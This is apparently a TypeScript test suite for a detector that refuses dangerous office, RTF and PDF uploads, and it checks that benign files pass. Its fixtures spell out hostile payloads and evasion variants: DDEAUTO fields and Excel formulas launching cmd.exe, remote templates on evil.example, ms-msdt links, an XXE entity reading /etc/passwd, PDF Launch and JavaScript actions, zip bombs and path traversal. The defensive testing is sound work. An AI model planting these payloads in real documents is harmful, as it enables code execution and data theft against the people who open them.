import { detectContent } from './detectContent';
import {
  attachment,
  changed,
  compound,
  compoundHead,
  contentTypes,
  field,
  lying,
  type OfficeKind,
  objectStream,
  office,
  packed,
  pdf,
  related,
  relationship,
  rtf,
  sheet,
  word,
  zip,
} from './hostileFiles.fixture';
import { contentInMemory } from './inspect/contentInMemory';

const look = (name: string, content: Buffer) => detectContent(contentInMemory(content), name);
type Row = readonly [what: string, fileName: string, content: () => Buffer];

const kinds: readonly OfficeKind[] = ['docx', 'xlsx', 'pptx'];
const ofAll = (rows: (kind: OfficeKind) => readonly (readonly [string, () => Buffer])[]): Row[] =>
  kinds.flatMap((kind) => rows(kind).map(([what, make]) => [`${what} in ${kind}`, `a.${kind}`, make] as const));
const docx = (rows: readonly (readonly [string, () => Buffer])[]): Row[] =>
  rows.map(([what, make]) => [what, 'a.docx', make]);
const xlsx = (rows: readonly (readonly [string, () => Buffer])[]): Row[] =>
  rows.map(([what, make]) => [what, 'a.xlsx', make]);
const toDocumentRows = (rows: readonly (readonly [string, () => Buffer])[]): Row[] =>
  rows.map(([what, make]) => [what, 'a.pdf', make]);
const richTexts = (rows: readonly (readonly [string, string])[]): Row[] =>
  rows.map(([what, body]) => [what, 'a.rtf', () => rtf(body)]);

const vba = 'application/vnd.ms-office.vbaProject';
const mainTypes: Readonly<Record<OfficeKind, string>> = {
  docx: 'application/vnd.ms-word.document.macroEnabled.main+xml',
  xlsx: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
  pptx: 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
};
const ratesXml = (length: number) => `<a>${'x'.repeat(length)}</a>`;

const macros: readonly Row[] = [
  ...ofAll((kind) => [
    ['macros', () => office(kind, { 'x/vbaProject.bin': compound('_VBA_PROJECT') })],
    ['macros under another name', () => office(kind, { 'x/printerSettings1.bin': compound('_VBA_PROJECT') })],
    ['macros as a picture', () => office(kind, { 'media/image1.png': compound('_VBA_PROJECT') })],
    [
      'a part of the type of macros',
      () => office(kind, { 'x/a.bin': 'x' }, `<Default Extension="bin" ContentType="${vba}"/>`),
    ],
    [
      'a named part of the type of macros',
      () => office(kind, { 'x/a.bin': 'x' }, `<Override PartName="/x/a.bin" ContentType="${vba}"/>`),
    ],
    [
      'the type of a file with macros',
      () => office(kind, {}, `<Override PartName="/x/other.xml" ContentType="${mainTypes[kind]}"/>`),
    ],
    ['a relationship to macros', () => office(kind, { '_rels/.rels': relationship('vbaProject', 'x.bin', '') })],
    ['an ActiveX control', () => office(kind, { 'x/activeX/activeX1.xml': '<a/>' })],
    ['a relationship to a control', () => office(kind, { 'x/_rels/a.xml.rels': relationship('control', 'a.xml', '') })],
    ['a ribbon that calls macros', () => office(kind, { 'customUI/customUI.xml': '<customUI onLoad="x"/>' })],
  ]),
  ...xlsx([
    ['a macro sheet', () => office('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' })],
    [
      'a relationship to a macro sheet',
      () => office('xlsx', { 'xl/_rels/workbook.xml.rels': relationship('xlMacrosheet', 'sheets/a.xml', '') }),
    ],
    [
      'a name that runs at opening',
      () =>
        office('xlsx', {
          'xl/workbook.xml':
            '<workbook><definedNames><definedName name="_xlnm.Auto_Open">x!A1</definedName></definedNames></workbook>',
        }),
    ],
  ]),
  ['a doc with macros', 'a.doc', () => compound('WordDocument', '_VBA_PROJECT')],
  ['an xls with macros', 'a.xls', () => compound('Workbook', '_VBA_PROJECT_CUR')],
  ['a ppt with macros', 'a.ppt', () => compound('PowerPoint Document', '_VBA_PROJECT')],
  [
    'an xls with a macro sheet',
    'a.xls',
    () => Buffer.concat([compound('Workbook'), Buffer.from('8500100012340000000105004d6163726f', 'hex')]),
  ],
];

const objects: readonly Row[] = [
  ...ofAll((kind) => [
    ['an OLE object', () => office(kind, { 'x/embeddings/oleObject1.bin': compound('\x01Ole10Native') })],
    [
      'a relationship to an OLE object',
      () => office(kind, { 'x/_rels/a.xml.rels': relationship('oleObject', 'a.bin', '') }),
    ],
    ['a program', () => office(kind, { 'x/media/image1.png': 'MZ\x90\0' })],
    ['a script', () => office(kind, { 'x/run.vbs': 'x' })],
    ['a shortcut', () => office(kind, { 'x/a.lnk': 'x' })],
    ['a PDF', () => office(kind, { 'x/a.bin': '%PDF-1.7' })],
    ['a rich text', () => office(kind, { 'x/a.xml': '{\\rtf1 x}' })],
    ['a zip', () => office(kind, { 'x/media/image1.png': zip({ 'a.txt': 'x' }) })],
    [
      'a workbook with macros',
      () => office(kind, { 'x/embeddings/a.xlsx': office('xlsx', { 'xl/vbaProject.bin': 'x' }) }),
    ],
    [
      'a workbook in a workbook',
      () => office(kind, { 'x/embeddings/a.xlsx': office('xlsx', { 'xl/embeddings/b.xlsx': office('xlsx') }) }),
    ],
  ]),
  ...docx([
    ['an OLE object in its text', () => word('<w:document><o:OLEObject Type="Embed"/></w:document>')],
    ['another document', () => word('<w:document><w:altChunk r:id="a"/></w:document>')],
    ['a relationship to another document', () => related('aFChunk', 'a.html', '')],
    ['a field that embeds', () => field(' EMBED Package ')],
    ['a field that links', () => field(' LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" ')],
  ]),
  [
    'a slide with an object',
    'a.pptx',
    () => office('pptx', { 'ppt/slides/slide1.xml': '<p:sld><p:oleObj r:id="a"/></p:sld>' }),
  ],
  [
    'a sheet with a link to an object',
    'a.xlsx',
    () => office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink><oleLink r:id="a"/></externalLink>' }),
  ],
  ['a doc with a packed file', 'a.doc', () => compound('WordDocument', '\x01Ole10Native')],
  ['a doc with an object', 'a.doc', () => compound('WordDocument', '\x03ObjInfo')],
  ['a doc with an equation', 'a.doc', () => compound('WordDocument', 'Equation Native')],
  ['a doc with a control', 'a.doc', () => compound('WordDocument', '\x03OCXNAME')],
  ['an xls with an object', 'a.xls', () => compound('Workbook', 'MBD0012ABCD')],
  ...richTexts([
    ['a control', '{\\object\\objocx{\\*\\objdata 0105}}'],
    ['an embedded object', '{\\object\\objemb{\\*\\objdata 0105000002}}'],
    ['an object that updates itself', '{\\object\\objautlink\\objupdate}'],
    ['an object in capitals', '{\\OBJECT\\OBJDATA 01}'],
    ['an object broken into lines', '{\\obj\r\ndata 0105}'],
    ['an object with a NUL', '{\\obj\0data 0105}'],
    ['a binary object', '{\\bin8 \xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1}'],
    ['a field that embeds', '{\\field{\\*\\fldinst EMBED Package}}'],
  ]),
];

const fromElsewhere: readonly Row[] = [
  ...docx([
    ['a template on the web', () => related('attachedTemplate', 'https://evil.example/a.dotm')],
    ['a template on the web in capitals', () => related('attachedTemplate', 'HTTP://evil.example/a.dotm')],
    ['a template written in numbers', () => related('attachedTemplate', '&#104;ttps://evil.example/a.dotm')],
    ['a template on another machine', () => related('attachedTemplate', '\\\\evil.example\\share\\a.dotm')],
    [
      'a template on another machine, by its address',
      () => related('attachedTemplate', 'file://evil.example/share/a.dotm'),
    ],
    [
      'a template on another machine, with many slashes',
      () => related('attachedTemplate', 'file://///evil.example/share/a.dotm'),
    ],
    ['a template in an archive', () => related('attachedTemplate', 'mhtml:https://evil.example/a!b')],
    [
      'a template in single quotes',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a.dotm').replaceAll(
            '"',
            "'",
          ),
        }),
    ],
    [
      'a template in UTF-16',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': Buffer.from(
            `\ufeff${relationship('attachedTemplate', 'https://evil.example/a').replace(' encoding="UTF-8"', '')}`,
            'utf16le',
          ),
        }),
    ],
    [
      'a template behind a prefix',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a').replace(
            '<Relationship Id',
            '<r:Relationship Id',
          ),
        }),
    ],
    [
      'a template in a folder of another name',
      () =>
        office('docx', {
          'word\\_rels\\settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a'),
        }),
    ],
    [
      'a template behind a long comment',
      () =>
        office('docx', {
          'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a').replace(
            '<Relationship Id',
            `<!--${'- '.repeat(40_000)}--><Relationship Id`,
          ),
        }),
    ],
    [
      'a template by the type of the strict kind',
      () =>
        office('docx', {
          'word/_rels/a.xml.rels': relationship('x', 'https://evil.example')
            .replace(
              'http://schemas.openxmlformats.org/officeDocument/2006',
              'http://purl.oclc.org/ooxml/officeDocument',
            )
            .replace('/x"', '/attachedTemplate"'),
        }),
    ],
    ['an object on the web', () => related('oleObject', 'https://evil.example/a.html!')],
    ['a frame', () => related('frame', 'https://evil.example/a.html')],
    ['a subdocument', () => related('subDocument', '\\\\evil.example\\a.docx')],
    ['a picture of another machine', () => related('image', '\\\\evil.example\\a.png')],
    ['a picture of another machine by its address', () => related('image', 'file://evil.example/a.png')],
    ['a relationship that nobody knows', () => related('brandNew', 'https://evil.example')],
    ['a link to a script', () => related('hyperlink', 'javascript:alert(1)')],
    ['a link to a script with a tab', () => related('hyperlink', 'java&#9;script:alert(1)')],
    ['a link to the diagnostics', () => related('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
    ['a link to the search', () => related('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\evil')],
    ['a field that takes a text', () => field(' INCLUDETEXT "https://evil.example/a" ')],
    [
      'a field that takes a picture of another machine',
      () => field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" '),
    ],
    ['an entity', () => word('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')],
    ['an encoding that few read', () => word('<?xml version="1.0" encoding="UTF-7"?><a/>')],
  ]),
  ...richTexts([
    ['a template on the web', '{\\*\\template http://evil.example/a.dotm}'],
    ['a template on another machine', '{\\*\\template \\\\\\\\evil.example\\\\a.dotm}'],
    ['a template with escaped letters', "{\\*\\template \\'68ttp://evil.example/a}"],
    ['a text on the web', '{\\field{\\*\\fldinst INCLUDETEXT "http://evil.example/a"}}'],
  ]),
];

const programs: readonly Row[] = [
  ...docx([
    ['a DDE field', () => field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ['a DDE field that waits', () => field(' DDE excel a b ')],
    ['a DDE field in parts', () => field(' DD', 'EAU', 'TO c:\\\\a ')],
    ['a DDE field in small letters', () => field(' ddeauto c:\\\\a ')],
    ['a DDE field as it is', () => word('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>')],
    ['a DDE field in numbers', () => field(' &#68;&#68;&#69;AUTO cmd ')],
    ['a DDE field as a verbatim text', () => field('<![CDATA[ DDEAUTO cmd ]]>')],
    ['a DDE field around a comment', () => field(' DDE<!-- x -->AUTO cmd ')],
    ['a DDE field by the numbers of its letters', () => field(' QUOTE 68 68 69 65 85 84 79 ')],
    [
      'a DDE field in a header',
      () =>
        office('docx', {
          'word/header1.xml': '<w:hdr><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText></w:hdr>',
        }),
    ],
    [
      'a DDE field in a part of another name',
      () => office('docx', { 'word/media/x.dat': '<w:p><w:instrText>DDEAUTO a</w:instrText></w:p>' }),
    ],
  ]),
  ...xlsx([
    [
      'a DDE link',
      () =>
        office('xlsx', {
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
    ],
    ['a formula that asks a program', () => sheet("<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>")],
    [
      'a formula that asks a program in an operation',
      () => sheet("<worksheet><c><f>1+MSEXCEL|'..\\cmd.exe'!_x</f></c></worksheet>"),
    ],
    [
      'a name that asks a program',
      () =>
        office('xlsx', { 'xl/workbook.xml': '<workbook><definedName name="a">cmd|\'/c\'!A</definedName></workbook>' }),
    ],
  ]),
  ...richTexts([
    ['a DDE field', '{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe "/k calc"}}'],
    ['a DDE field in groups', '{\\field{\\*\\fldinst {\\rtlch DD}{\\b EAUTO} cmd}}'],
    ['a DDE field with escaped letters', "{\\field{\\*\\fldinst \\'44\\'44EAUTO cmd}}"],
  ]),
  [
    'a doc with a DDE field',
    'a.doc',
    () => Buffer.concat([compound('WordDocument'), Buffer.from('\x13 DDEAUTO cmd \x15')]),
  ],
  [
    'a doc with a DDE field in wide letters',
    'a.doc',
    () => Buffer.concat([compound('WordDocument'), Buffer.from('\x13 DDEAUTO cmd \x15', 'utf16le')]),
  ],
];

const bombs: readonly Row[] = [
  ...ofAll((kind) => [
    ['zeros', () => office(kind, { 'x/media/image1.png': new Uint8Array(30_000_000) })],
    ['a size that is a lie', () => lying(office(kind, { 'x/bomb.xml': ratesXml(900_000) }), 'x/bomb.xml', 900)],
    ['a size that is nothing', () => lying(office(kind, { 'x/bomb.bin': 'y'.repeat(50_000) }), 'x/bomb.bin', 0)],
    [
      'zeros behind a lie',
      () => lying(office(kind, { 'x/bomb.bin': new Uint8Array(60_000_000) }), 'x/bomb.bin', 1_000),
    ],
    ['a part that is locked', () => changed(office(kind, { 'x/a.xml': '<a/>' }), 'x/a.xml', 8, 1)],
    ['a packing that few know', () => changed(office(kind, { 'x/a.xml': '<a/>' }), 'x/a.xml', 10, 12)],
    [
      'more parts than it should',
      () => office(kind, Object.fromEntries(Array.from({ length: 10_001 }, (_, index) => [`x/${index}`, '']))),
    ],
    ['a part twice', () => office(kind, { 'X/A.xml': '<a/>', 'x/a.xml': '<a/>' })],
    ['a part that leaves the folder', () => office(kind, { '../../a.xml': '<a/>' })],
    [
      'zeros in a workbook inside',
      () => office(kind, { 'x/embeddings/a.xlsx': office('xlsx', { 'xl/a.bin': new Uint8Array(40_000_000) }) }),
    ],
  ]),
  ['zeros in the objects of a PDF', 'a.pdf', () => pdf(packed('/Type/ObjStm/N 1/First 4', new Uint8Array(40_000_000)))],
];

const scripts: readonly Row[] = toDocumentRows([
  ['a script that runs at opening', () => pdf('<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
  ['a script with letters by number', () => pdf('<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>')],
  ['a script of the document', () => pdf('<</Names<</JavaScript 2 0 R>>>>')],
  ['a script with blanks', () => pdf('<</S  \n /JavaScript /JS <6170702e616c657274>>>')],
  ['a script that lies elsewhere', () => pdf('<</S/JavaScript/JS 3 0 R>>')],
  [
    'a script behind a function of forms',
    () => pdf('<</S/JavaScript/JS(AFNumber_Format(2,0,0,0,"",true\\);app.launchURL("x"))>>'),
  ],
  ['a script within a function of forms', () => pdf('<</S/JavaScript/JS(AFNumber_Format(app.launchURL("x")))>>')],
  ['a script in packed objects', () => pdf(objectStream('<</S/JavaScript/JS(app.alert(1))>>'))],
  [
    'a script in packed objects with letters by number',
    () => pdf(objectStream('<</S/Java#53cript/JS(app.alert(1))>>')),
  ],
  ['a program to start', () => pdf('<</OpenAction<</S/Launch/F(cmd.exe)>>>>')],
  ['a program to start with letters by number', () => pdf('<</S/L#61unch/F(cmd.exe)>>')],
  ['a program to start in packed objects', () => pdf(objectStream('<</S/Launch/Win<</F(cmd.exe)>>>>'))],
  [
    'objects that are packed as nobody does',
    () => pdf('<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]>>\nstream\n00\nendstream'),
  ],
  [
    'objects that cannot be unpacked',
    () => pdf('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\nxxxxxxxxxxxxxxxx\nendstream'),
  ],
  ['a program inside', () => attachment(Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'))],
  ['a zip inside', () => attachment(zip({ 'a.txt': 'x' }))],
  ['a document inside', () => attachment(office('docx'))],
  ['an old document inside', () => attachment(compoundHead)],
  ['a page inside', () => attachment('<html><script>x</script></html>')],
  ['a PDF inside', () => attachment('%PDF-1.7')],
  ['a file inside of a locked one', () => pdf('<</Encrypt 2 0 R>>', packed('/Type/EmbeddedFile', 'x'))],
  ['a film', () => pdf('<</Subtype/RichMedia>>')],
  ['a way into another PDF', () => pdf('<</S/GoToE/F(a.pdf)>>')],
  ['data to import', () => pdf('<</S/ImportData/F(a.fdf)>>')],
]);

const disguised: readonly Row[] = [
  ...ofAll((kind) => [
    [
      'no content types',
      () =>
        zip({
          '[Content_Types].xml': '<Types/>',
          'word/document.xml': '<a/>',
          'xl/workbook.xml': '<a/>',
          'ppt/presentation.xml': '<a/>',
        }),
    ],
    [
      'the content types of another kind',
      () =>
        zip({
          '[Content_Types].xml': contentTypes(kind === 'docx' ? 'xlsx' : 'docx'),
          'word/document.xml': '<a/>',
          'xl/workbook.xml': '<a/>',
        }),
    ],
    ['a torn end', () => office(kind).subarray(0, -30)],
  ]),
];

const hostile = { macros, objects, fromElsewhere, programs, bombs, scripts, disguised };

describe.each(Object.entries(hostile))('%s', (_group, rows) => {
  test.each(rows)('refuses %s (%s)', async (_what, fileName, content) => {
    expect(await look(fileName, content())).toEqual({
      refused: expect.stringMatching(/^(?:contains|loads|starts|would|is) /),
    });
  });
});

test('has a minimum number of cases', () => {
  expect(Object.values(hostile).flat().length).toBeGreaterThanOrEqual(120);
});

const printer =
  '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>';
const innocent: readonly Row[] = [
  ...ofAll((kind) => [
    ['nothing else', () => office(kind)],
    [
      'links',
      () =>
        office(kind, { 'x/_rels/a.xml.rels': relationship('hyperlink', 'https://carrier.example/track?a=1&amp;b=2') }),
    ],
    [
      'a link for mail',
      () =>
        office(kind, { 'x/_rels/a.xml.rels': relationship('hyperlink', 'mailto:ops@forwarder.example?subject=B/L') }),
    ],
    [
      'a link to a share',
      () => office(kind, { 'x/_rels/a.xml.rels': relationship('hyperlink', 'file:///\\\\server\\rates\\2026.xlsx') }),
    ],
    ['a logo', () => office(kind, { 'x/media/image1.png': Buffer.from('89504e470d0a1a0a', 'hex') })],
    [
      'a chart with its numbers',
      () =>
        office(kind, {
          'x/embeddings/Microsoft_Excel_Sheet1.xlsx': office('xlsx'),
          'x/charts/_rels/chart1.xml.rels': relationship('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx', ''),
        }),
    ],
    ['parts with a mark of their order', () => office(kind, { 'x/a.xml': '\ufeff<a/>' })],
    ['an old encoding', () => office(kind, { 'x/a.xml': '<?xml version="1.0" encoding="windows-1252"?><a/>' })],
  ]),
  ...docx([
    [
      'a template of the own disk',
      () => related('attachedTemplate', 'file:///C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx'),
    ],
    ['a template beside it', () => related('attachedTemplate', 'Normal.dotm')],
    ['a picture that came with a mail', () => related('image', 'cid:image001.png@01D9')],
    ['a picture of the web', () => related('image', 'https://forwarder.example/logo.png')],
    ['page numbers', () => field(' PAGE  \\* MERGEFORMAT ')],
    ['a table of contents', () => field(' TOC \\o "1-3" \\h \\z \\u ')],
    ['a link in a field', () => field(' HYPERLINK "https://carrier.example" ')],
    ['a field of a letter', () => field(' MERGEFIELD Consignee ')],
    [
      'a word that begins so',
      () => word('<w:p><w:t>DDE, Deutsche Demokratische | Erde &lt;script&gt; DDEAUTO</w:t></w:p>'),
    ],
    ['a comment', () => word('<w:p><!-- <o:OLEObject/> is not here --><w:t>x</w:t></w:p>')],
    [
      'a main part of another name',
      () =>
        zip({
          '[Content_Types].xml': contentTypes('docx').replace('document.xml', 'document2.xml'),
          'word/document2.xml': '<a/>',
        }),
    ],
  ]),
  ...xlsx([
    [
      'settings of a printer',
      () =>
        office('xlsx', { 'xl/printerSettings/printerSettings1.bin': Buffer.from('PDFCreator', 'utf16le') }, printer),
    ],
    ['formulas', () => sheet('<worksheet><c><f>IF(A1="x|y",SUM(B1:B9),0)</f></c></worksheet>')],
    [
      'a sheet with a bar in its name',
      () => sheet("<worksheet><c><f>'FCL|LCL'!A1+SUM('A''B|C'!B:B)</f></c></worksheet>"),
    ],
    [
      'a link to another workbook',
      () =>
        office('xlsx', {
          'xl/externalLinks/_rels/externalLink1.xml.rels': relationship(
            'externalLinkPath',
            'file:///\\\\server\\rates\\2026.xlsx',
          ),
        }),
    ],
    [
      'a name of a print area',
      () =>
        office('xlsx', {
          'xl/workbook.xml': '<workbook><definedName name="_xlnm.Print_Area">Sheet1!$A$1:$B$2</definedName></workbook>',
        }),
    ],
    [
      'ten thousand lines',
      () =>
        sheet(
          `<worksheet>${Array.from({ length: 10_000 }, (_, row) => `<row r="${row}"><c><v>${row * 7919}</v></c></row>`).join('')}</worksheet>`,
        ),
    ],
  ]),
  ['a doc', 'a.doc', () => compound('WordDocument', 'ObjectPool', '\x01CompObj')],
  ['an xls', 'a.xls', () => compound('Workbook')],
  ...richTexts([
    ['a letter', '{\\fonttbl{\\f0 Arial;}}\\f0 Dear Sirs, \\b please \\b0 release.\\par'],
    ['a template of the own disk', '{\\*\\template C:\\\\Templates\\\\Letter.dot}x'],
    ['page numbers', '{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}'],
    ['a link', '{\\field{\\*\\fldinst {HYPERLINK "https://carrier.example"}}{\\fldrslt x}}'],
  ]),
  ...toDocumentRows([
    ['a page', () => pdf('<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>')],
    ['packed objects', () => pdf(objectStream('<</Type/Page/Annots[<</S/URI/URI(https://carrier.example)>>]>>'))],
    [
      'packed text and pictures',
      () => pdf(packed('/Type/XObject/Subtype/Image', new Uint8Array(4_000_000)), packed('', 'BT (B/L) Tj ET')),
    ],
    ['the data of an invoice', () => attachment('<?xml version="1.0"?><rsm:CrossIndustryInvoice/>')],
    [
      'a form with numbers and dates',
      () =>
        pdf(
          '<</AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>/K<</S/JavaScript/JS(AFDate_KeystrokeEx("dd.mm.yyyy");)>>>>>>',
        ),
    ],
    [
      'a form that adds up',
      () => pdf(objectStream('<</AA<</C<</S/JavaScript/JS(AFSimple_Calculate("SUM", new Array ("a", "b"));)>>>>>>')),
    ],
    ['a form that can be sent', () => pdf('<</S/SubmitForm/F(https://customs.example)>>')],
    ['a lock against changes', () => pdf('<</Encrypt 2 0 R>>', objectStream('locked'))],
  ]),
  ['a text', 'a.txt', () => Buffer.from('Marks & numbers: DDEAUTO, 3 < 4')],
];

test.each(innocent)('accepts %s (%s)', async (_what, fileName, content) => {
  expect(await look(fileName, content())).toEqual({ contentType: expect.any(String) });
});
